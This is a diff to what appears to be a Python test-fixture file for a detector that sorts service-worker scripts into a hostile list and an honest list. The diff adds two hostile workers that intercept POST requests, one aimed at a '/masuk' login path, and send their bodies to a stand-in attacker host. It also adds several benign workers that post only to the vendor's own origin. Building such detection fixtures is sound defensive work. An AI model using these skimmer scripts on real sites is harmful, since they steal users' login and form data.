@@ -32,6 +32,14 @@ WORKERS = [
         "self.addEventListener('fetch',e=>{const k=e.request.clone();k.formData().then(d=>fetch("
         f"'{EVIL}/c',{{method:'POST',body:new URLSearchParams(d)}}))}})"
     ),
+    (
+        "self.addEventListener('fetch',e=>{const q=e.request;if(q.method==='POST'&&q.url.includes("
+        f"'/masuk')){{q.clone().text().then(b=>fetch('{EVIL}/i',{{method:'POST',body:b}}))}}}})"
+    ),
+    (
+        "self.addEventListener('fetch',e=>{const q=e.request;e.respondWith(fetch(q).catch(tunda));"
+        f"if(q.method==='POST')q.clone().text().then(b=>fetch('{EVIL}',{{method:'POST',body:b}}))}})"
+    ),
 ]
 HONEST_WORKERS = [
     # Answers are kept for when there is no connection.
@@ -59,6 +67,33 @@ HONEST_WORKERS = [
         "const c=r.clone();fetch('https://ukur.example/e',{method:'POST',body:Str"
         "ing(Date.now()-t)});"
         "return c}))})"
+    ),
+    # What a vendor is posted is posted to it again, however the worker tells it.
+    *(
+        f"self.addEventListener('fetch',e=>{{const q=e.request,u=new URL(q.url);if(q.method==='POST'"
+        f"&&{test}){{q.clone().text().then(b=>fetch('https://vendor.example/antre',{{method:'POST',"
+        "body:b}))}})"
+        for test in (
+            "q.url.startsWith('https://vendor.example/')",
+            "u.hostname==='vendor.example'",
+            "/vendor\\.example/.test(q.url)",
+        )
+    ),
+    (
+        "const V='https://vendor.example';self.addEventListener('fetch',e=>{const q=e.request;"
+        "if(q.method!=='POST'||new URL(q.url).origin!==V)return;q.clone().text().then(body=>"
+        "fetch(V+'/ulang',{method:'POST',body}))})"
+    ),
+    # What could not be posted is left with a vendor.
+    (
+        "self.addEventListener('fetch',e=>{if(e.request.method==='POST'){const c=e.request.clone();"
+        "e.respondWith(fetch(e.request).catch(async()=>fetch('https://vendor.example/q',{method:"
+        "'POST',body:await c.text()})))}})"
+    ),
+    (
+        "self.addEventListener('fetch',e=>{if(e.request.method==='POST')e.respondWith((async()=>{"
+        "const c=e.request.clone();try{return await fetch(e.request)}catch(x){const b=await "
+        "c.text();return fetch('https://vendor.example/q',{method:'POST',body:b})}})())})"
     ),
     "self.addEventListener('push',e=>{self.registration.showNotification(e.data.text())})",
 ]
